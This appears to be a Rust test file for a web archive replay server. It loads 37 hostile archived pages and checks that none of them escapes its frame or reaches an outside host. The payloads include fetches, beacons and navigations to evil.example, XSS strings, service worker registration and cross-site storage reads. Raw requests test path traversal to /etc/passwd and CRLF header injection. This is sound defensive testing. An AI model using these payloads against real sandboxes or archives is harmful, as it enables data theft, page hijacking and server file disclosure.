//! Archived pages that try to escape from their frame. Each tries one way, and none succeeds. The tests need the
//! feature `interop`, so a machine without a browser fails them loudly.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::browser::{Serving, Viewer};
use crate::crawled::Archive;
use crate::wait::found_within;

/// An archived page, and a condition that must hold in its frame afterwards.
struct Attack {
    name: &'static str,
    page: &'static str,
    /// A JavaScript expression. Empty if there is nothing to check in the frame.
    inside: &'static str,
}

const fn attack(name: &'static str, page: &'static str, inside: &'static str) -> Attack {
    Attack { name, page, inside }
}

/// Several attacks use a clean frame, which gives a script the browser's own functions before our script replaced any.
const ATTACKS: [Attack; 37] = [
    attack("case", "<IMG SRC=HTTP://evil.example/a><iMg sRc='hTTp://evil.example/b'><IMG/SRC=//evil.example/c>", ""),
    attack("entities", "<img src='&#104;ttp://evil.example/a'><img src='http&colon;&sol;&sol;evil.example/b'><img src='\thttp://evil.example/c'>", ""),
    attack("comments", "<!--><img src=http://evil.example/a>--><!--[if IE]><img src=http://evil.example/b><![endif]--><![CDATA[<img src=http://evil.example/c>]]>", ""),
    attack("unfinished", "<p <img src=http://evil.example/a><a href='x' <img src='http://evil.example/b' ><title><img src=http://evil.example/c></title><img src=http://evil.example/d", ""),
    attack("base", "<base href=http://evil.example/><img src=a><base href=//evil.example/2/><script>document.querySelector('base').href = 'http://evil.example/3/'; new Image().src = 'b'</script><link rel=stylesheet href=c>", ""),
    attack("refresh", "<meta http-equiv='refresh' content='0; URL=http://evil.example/'>", "location.href.startsWith('http://localhost:')"),
    attack("javascript addresses", "<a id=a href='java&#10;script:top.location=\"http://evil.example/\"'>x</a><iframe src='javascript:parent.location=\"http://evil.example/\"'></iframe><script>a.click()</script>", "location.origin !== 'http://evil.example'"),
    attack("data documents", "<iframe src='data:text/html,<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";fetch(\"http://evil.example/b\")</script>'></iframe><object data='data:text/html,<img src=http://evil.example/c>'></object>", ""),
    attack("drawings", "<svg><image href=http://evil.example/a /><use xlink:href='http://evil.example/b#x'/><script>fetch('http://evil.example/c')</script><a id=s><animate attributeName=href to=http://evil.example/d begin=0s fill=freeze /><text y=20>x</text></a></svg><iframe src=/drawing.svg></iframe>", "window.drawn === undefined"),
    attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "location.href.startsWith('http://localhost:')"),
    attack("workers", "<script>const text = `try { importScripts('http://evil.example/a') } catch (e) {} fetch('http://evil.example/b').catch(() => 0); try { new WebSocket('ws://evil.example/') } catch (e) {} postMessage('tried')`;
        new Worker(URL.createObjectURL(new Blob([text]))).onmessage = () => { window.worked = 1 }; new Worker('/worker.js').onmessage = (event) => { window.told = event.data };
        try { new SharedWorker('http://evil.example/c') } catch (e) {}</script>", "new Promise((done) => { const wait = () => window.worked && window.told ? done(window.told === 'http://archived.example/worker.js') : setTimeout(wait, 10); wait(); })"),
    attack("service workers", "<iframe></iframe><script>const own = frames[0].navigator.serviceWorker; window.tried = own.register(document.querySelector('script').baseURI + 'worker.js').then(() => 'registered', () => 'refused');
        window.more = own.register('/web/20200101000000js_/' + location.origin + '/worker.js', {scope: '/web/'}).then(() => 'registered', () => 'refused')</script>",
        "Promise.all([window.tried, window.more]).then((both) => both.join() === 'refused,refused')"),
    attack("the window around", "<script>for (const way of [() => top.location = 'http://evil.example/', () => window.top.location.replace('http://evil.example/'), () => (0, eval)('top').location = 'http://evil.example/', () => (0, eval)('top').document.body.remove(), () => parent.document.getElementById('ban').remove()]) { try { way() } catch (e) {} }</script>
        <a id=t target=_top href=http://evil.example/>x</a><script>(0, eval)('setTimeout(() => t.click(), 10)')</script>", "location.href.startsWith('http://localhost:')"),
    attack("windows", "<script>window.opened = [window.open('http://evil.example/'), window.open('//evil.example/', 'other')]; try { opener.location = 'http://evil.example/' } catch (e) {}</script><iframe></iframe><script>window.clean = frames[0].open('http://evil.example/')</script>", "window.opened.join() === ',' && window.clean === null"),
    attack("cookies", "<script>document.cookie = 'evil=1; path=/'; window.kept = document.cookie</script>", "window.kept === 'evil=1'"),
    attack("storage of others", "<script>window.found = [localStorage.length, localStorage.getItem('secret'), localStorage.secret, Object.keys(localStorage).length]; indexedDB.databases && 0</script>", "JSON.stringify(window.found) === '[0,null,null,0]'"),
    attack("messages to the banner", "<iframe></iframe><script>const above = Object.getOwnPropertyDescriptor(frames[0], 'parent').get.call(window);
        for (const said of [{perennial: 'page', url: 'javascript:alert(1)', time: '2020'}, {perennial: 'page', url: 'http://evil.example/\"><img src=x>', time: '20200101000000'}, {perennial: 'block', text: '<img src=x onerror=alert(1)>'}, {perennial: 'parts', parts: [{url: 'http://evil.example/<img src=x>'}, null, {url: 5}]}, null, 'x']) above['postMessage'](said, '*')</script>", ""),
    attack("forms", "<form id=f method=post action=http://evil.example/a><input name=a value=b><button id=b formaction=http://evil.example/b>x</button></form><script>f.action = 'http://evil.example/c'; HTMLFormElement.prototype.submit.call(f)</script>", "location.href.startsWith('http://localhost:')"),
    attack("styles", "<style>@import 'http://evil.example/a'; @\\69mport url(//evil.example/b); p { background: u\\72l(http://evil.example/c) } @font-face { font-family: x; src: url(http://evil.example/d) } p { font-family: x }</style><p style='background: url(\"http://evil.example/e\")'>x</p>
        <script>document.styleSheets[0].insertRule('p { background: url(http://evil.example/f) }', 0); document.querySelector('p').style.backgroundImage = 'url(http://evil.example/g)'; document.querySelector('p').style.setProperty('--x', 'url(http://evil.example/h)');
        const sheet = document.createElement('style'); sheet.textContent = 'p { list-style: url(http://evil.example/i) }'; document.head.append(sheet)</script>", ""),
    attack("links", "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example><link rel=prefetch href=http://evil.example/a><link rel=prerender href=http://evil.example/b><link rel=preload as=image href=http://evil.example/c><link rel=modulepreload href=http://evil.example/d>
        <script type=speculationrules>{\"prefetch\": [{\"urls\": [\"http://evil.example/e\"], \"eagerness\": \"immediate\"}]}</script><script>for (const rel of ['preconnect', 'prefetch', 'stylesheet', 'icon']) { const link = document.createElement('link'); link.rel = rel; link.href = 'http://evil.example/' + rel; document.head.append(link) }</script>", ""),
    attack("sockets", "<iframe></iframe><script>const tried = (way) => { try { way() } catch (e) {} }; for (const view of [window, frames[0]]) { tried(() => new view.WebSocket('ws://evil.example/a')); tried(() => new view.EventSource('http://evil.example/b')); tried(() => view.navigator.sendBeacon('http://evil.example/c', 'x')); tried(() => new view.WebTransport('https://evil.example/d')); tried(() => view.fetch('http://evil.example/e', {mode: 'no-cors', keepalive: true}).catch(() => 0)) }</script>", "typeof RTCPeerConnection === 'undefined'"),
    attack("written markup", "<script>document.write('<img src=\"http://evil.example/a\">'); document.write('<img sr'); document.write('c=http://evil.example/b>'); document.writeln('<scr' + 'ipt src=//evil.example/c></scr' + 'ipt>')</script>", ""),
    attack("blob pages", "<script>const page = new Blob(['<img src=http://evil.example/a><script>fetch(\"http://evil.example/b\");top.location=\"http://evil.example/\"</' + 'script>'], {type: 'text/html'}); const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(page); document.documentElement.append(frame)</script>", ""),
    attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i</script>", "window.pushed === 'SecurityError' && document.URL.startsWith('http://archived.example/elsewhere')"),
    attack("ways back", "<script>history.pushState({}, '', '/elsewhere'); history.go(-1); setTimeout(() => { history.go(1); history.go(-5); history.replaceState({}, '', '//evil.example/') }, 20)</script>", "location.href.startsWith('http://localhost:')"),
    attack("climbing", "<img src=/../../../../etc/passwd><img src=../../../../../../_perennial/x><script>fetch('/..%2f..%2fetc/passwd'); fetch('/%2e%2e/web/x').then((answer) => { window.climbed = answer.status })</script>", "new Promise((done) => { const wait = () => window.climbed ? done(window.climbed >= 400) : setTimeout(wait, 10); wait(); })"),
    attack("set by scripts", "<p id=p></p><script>new Image().src = 'http://evil.example/a'; p.innerHTML = '<img src=//evil.example/b><img srcset=\"http://evil.example/c 1x\">'; p.insertAdjacentHTML('beforeend', '<img src=http://evil.example/d>'); const i = document.createElement('img'); i.setAttribute('src', 'http://evil.example/e'); const s = document.createElement('script'); s.src = 'http://evil.example/f'; document.head.append(i, s); const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/g'); x.send()</script>", ""),
    attack("a clean frame", "<iframe></iframe><script>const clean = frames[0]; clean.fetch('http://evil.example/a').catch(() => 0); new clean.Image().src = 'http://evil.example/b'; const made = clean.document.createElement('img'); clean.Element.prototype.setAttribute.call(made, 'src', 'http://evil.example/c'); document.documentElement.append(made); const frame = clean.document.createElement('iframe'); clean.Element.prototype.setAttribute.call(frame, 'src', 'http://evil.example/d'); document.documentElement.append(frame)</script>", ""),
    attack("embedded", "<object data=http://evil.example/a><embed src=http://evil.example/b></object><applet codebase=http://evil.example/ code=c></applet><video poster=http://evil.example/d src=http://evil.example/e></video><audio src=//evil.example/f></audio><picture><source srcset=http://evil.example/g><img></picture><input type=image src=http://evil.example/h><body background=http://evil.example/i>", ""),
    attack("frames", "<frameset cols=50%,50%><frame src=http://evil.example/a><frame src=//evil.example/b></frameset>", ""),
    attack("modules", "<script type=module>import('http://evil.example/a').catch(() => 0); import('//evil' + '.example/b').catch(() => 0)</script><script type=module>import 'http://evil.example/c'</script><script type=importmap>{\"imports\": {\"x\": \"http://evil.example/d\"}}</script>", ""),
    attack("reports", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://evil.example/a\"><img src=/x.png><a id=p ping=http://evil.example/b href=#x>x</a><script>p.ping = 'http://evil.example/c'; p.click()</script>", ""),
    attack("code from text", "<script>new Function('location.href = \"http://evil.example/a\"')()</script>", "location.href.startsWith('http://localhost:')"),
    attack("code from text in time", "<script>setTimeout('location = \"http://evil.example/a\"', 1); [].constructor.constructor('window.location.assign(\"http://evil.example/b\")')()</script>", "location.href.startsWith('http://localhost:')"),
    attack("locked names", "<script>Object.freeze(Object.prototype); try { delete window.parent } catch (e) {} window.name = 'perennial_page'; document.title = 'x'</script><form name=location><input name=href></form><img name=__perennial>", ""),
    attack("a link that is clicked", "<a id=a href=x>x</a><script>Object.getOwnPropertyDescriptor(Attr.prototype, 'value').set.call(a.attributes.href, 'http://evil.example/'); a.click()</script>", "location.href.startsWith('http://localhost:')"),
    attack("a sandbox within", "<iframe sandbox='allow-scripts' srcdoc='<script>fetch(\"http://evil.example/a\").catch(() => 0); top.location = \"http://evil.example/\"</script>'></iframe><iframe sandbox='allow-scripts allow-top-navigation allow-popups' src=/sandboxed></iframe>", ""),
];

/// The host of the pages. It never existed.
const HOST: &str = "http://archived.example";

/// Other captures of the host: path, fields, body.
const PARTS: [(&str, &str, &str); 7] = [
    (
        "/worker.js",
        "Content-Type: text/javascript",
        "if (typeof importScripts === 'function') { fetch('http://evil.example/w').catch(() => 0); postMessage(location.href) }",
    ),
    (
        "/drawing.svg",
        "Content-Type: image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.drawn = 1; fetch('http://evil.example/')</script><image href='http://evil.example/x'/></svg>",
    ),
    (
        "/style.xml",
        "Content-Type: text/xml",
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>parent.run = 1; fetch('http://evil.example/')</h:script></a>",
    ),
    (
        "/sandboxed",
        "Content-Type: text/html",
        "<script>try { top.location = 'http://evil.example/' } catch (e) {} try { open('http://evil.example/') } catch (e) {}</script>",
    ),
    ("/", "Content-Type: text/html", "<title>done</title><p>Home</p>"),
    (
        "/secret",
        "Content-Type: text/html",
        "<title>done</title><script>localStorage.setItem('secret', 'x')</script>",
    ),
    (
        "/heads",
        "Content-Type: text/html\r\nRefresh: 0; url=http://evil.example/r\r\nLink: <http://evil.example/l>; rel=preload; as=script, <//evil.example/s>; rel=stylesheet\r\n\
        Set-Cookie: evil=1; path=/\r\nClear-Site-Data: \"*\"\r\nContent-Security-Policy: default-src *; report-uri http://evil.example/c\r\n\
        Access-Control-Allow-Origin: http://evil.example",
        "<title>done</title><p>heads</p>",
    ),
];

pub(crate) fn push_record(warc: &mut Vec<u8>, url: &str, status: &str, fields: &str, body: &str) {
    let block = format!("HTTP/1.1 {status}\r\n{fields}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let head = format!(
        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{:012}>\r\n\
         WARC-Date: 2026-01-02T03:04:05Z\r\nWARC-Target-URI: {url}\r\nContent-Type: application/http; msgtype=response\r\n\
         Content-Length: {}\r\n\r\n",
        warc.len(),
        block.len()
    );
    warc.extend(head.as_bytes());
    warc.extend(block.as_bytes());
    warc.extend(b"\r\n\r\n");
}

/// All pages in a WARC file. No crawler could fetch them, because evil.example does not exist.
fn warc() -> Vec<u8> {
    let mut warc = Vec::new();
    for (index, attack) in ATTACKS.iter().enumerate() {
        let body = format!(
            "<title>trying</title>{}<script>setTimeout(() => {{ document.title = 'done' }}, 60)</script>",
            attack.page
        );
        push_record(
            &mut warc,
            &format!("{HOST}/attack/{index}"),
            "200 OK",
            "Content-Type: text/html; charset=utf-8",
            &body,
        );
    }
    for (path, fields, body) in PARTS {
        let host = if path == "/secret" { "http://victim.example" } else { HOST };
        push_record(&mut warc, &format!("{host}{path}"), "200 OK", fields, body);
    }
    push_record(&mut warc, &format!("{HOST}/away"), "302 Found", "Location: http://evil.example/away", "");
    warc
}

struct Ground {
    serving: Serving,
    viewer: Viewer,
    _archive: Archive,
}

impl Ground {
    fn new() -> Ground {
        let archive = Archive::new();
        let file = archive.root.join("attacks.warc");
        std::fs::write(&file, warc()).unwrap();
        archive.ok(&["import", file.to_str().unwrap()]);
        let serving = Serving::start(&archive);
        let host = |origin: &str| origin.trim_start_matches("http://").to_string();
        let viewer = Viewer::start(&[host(&serving.main), host(&serving.replay)]);
        Ground { serving, viewer, _archive: archive }
    }

    /// Opens an archived page. Returns the requests that escaped.
    fn try_page(&mut self, name: &str, url: &str, inside: &str) -> Vec<String> {
        self.viewer.visit(&format!("{}/web/20260102030405/{url}", self.serving.main));
        // A page that navigates away never gets there.
        let _ = found_within(Duration::from_millis(400), || {
            (self.viewer.inside("document.title") == "done").then_some(())
        });
        let mut found = Vec::new();
        let mut expect = |what: &str, value: String, expected: String| {
            if value != expected {
                found.push(format!("{name}: {what} is {value} and not {expected}"));
            }
        };
        if !inside.is_empty() {
            // The page may still be loading.
            let mut last = String::new();
            let _ = found_within(Duration::from_secs(2), || {
                last = self.viewer.inside(inside).to_string();
                (last == "true").then_some(())
            });
            expect(inside, last, "true".into());
        }
        let around = "[location.origin, document.getElementById('ban') !== null, document.querySelectorAll('#ban img, #ban script').length, \
                      document.cookie].join(' ')";
        let value = self.viewer.outside(around).as_str().unwrap_or_default().to_string();
        expect("the page around", value, format!("{} true 0 ", self.serving.main));
        expect("what left", self.viewer.escaped().concat(), String::new());
        found
    }

    /// A server's response to a request sent byte for byte.
    fn raw(&self, origin: &str, request: &str) -> String {
        let mut stream = TcpStream::connect(origin.trim_start_matches("http://")).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        String::from_utf8_lossy(&answer).into_owned()
    }
}

#[test]
fn nothing_gets_out_of_its_frame() {
    let mut ground = Ground::new();
    // First, data that a different archived site stored.
    let stored = (
        "a site that stores",
        "http://victim.example/secret".to_string(),
        "localStorage.getItem('secret') === 'x'",
    );
    let mut pages = vec![stored];
    for (index, attack) in ATTACKS.iter().enumerate() {
        pages.push((attack.name, format!("{HOST}/attack/{index}"), attack.inside));
    }
    pages.push(("a redirect", format!("{HOST}/away"), "location.origin !== 'http://evil.example'"));
    pages.push(("heads", format!("{HOST}/heads"), ""));
    pages.push(("styled XML", format!("{HOST}/style.xml"), "window.run === undefined"));
    let found: Vec<String> =
        pages.iter().flat_map(|(name, url, inside)| ground.try_page(name, url, inside)).collect();
    assert!(found.is_empty(), "{found:#?}");
    held_heads(&ground);
}

/// Requests that no browser sends.
fn held_heads(ground: &Ground) {
    let (main, replay, page) = (&ground.serving.main, &ground.serving.replay, format!("{HOST}/heads"));
    let get = |path: &str, more: &str| {
        format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{more}Connection: close\r\n\r\n")
    };
    for origin in [main, replay] {
        let answer = ground.raw(origin, &get(&format!("/web/20260102030405mp_/{page}"), "")).to_lowercase();
        for line in answer.split("\r\n\r\n").next().unwrap().lines() {
            let is_loose = [
                "set-cookie:",
                "clear-site-data:",
                "refresh: 0; url=http",
                "content-security-policy: default-src *",
            ];
            assert!(!is_loose.iter().any(|word| line.starts_with(word)), "{line}");
        }
        let split = ground.raw(origin, &get("/web/2020mp_/http://a.example/%0d%0aSet-Cookie:%20a=b", ""));
        assert!(!split.to_lowercase().contains("\r\nset-cookie"), "{split}");
        for path in [
            "/web/2020id_/file:///etc/passwd",
            "/_perennial/../../etc/passwd",
            "/../../etc/passwd",
            "/web/2020id_/http://127.0.0.1/../../../etc/passwd",
        ] {
            let answer = ground.raw(origin, &get(path, ""));
            assert!(answer.starts_with("HTTP/1.1 4") && !answer.contains("root:"), "{path}: {answer}");
        }
        let shown = ground.raw(origin, &get("/web/2020/http://xn--80ak6aa92e.example/%3Cscript%3Ex", ""));
        assert!(shown.contains("xn--80ak6aa92e.example") && !shown.contains("<script>x"), "{shown}");
    }
    let registered = ground
        .raw(replay, &get(&format!("/web/20260102030405js_/{HOST}/worker.js"), "Service-Worker: script\r\n"));
    assert!(registered.starts_with("HTTP/1.1 400"), "{registered}");
    let bare =
        ground.raw(replay, &get(&format!("/web/20260102030405mp_/{page}"), "Sec-Fetch-Dest: document\r\n"));
    // The dashboard has the other name of loopback.
    let main = main.replace("127.0.0.1", "localhost");
    assert!(bare.starts_with("HTTP/1.1 302") && bare.contains(&format!("location: {main}/web/")), "{bare}");
}
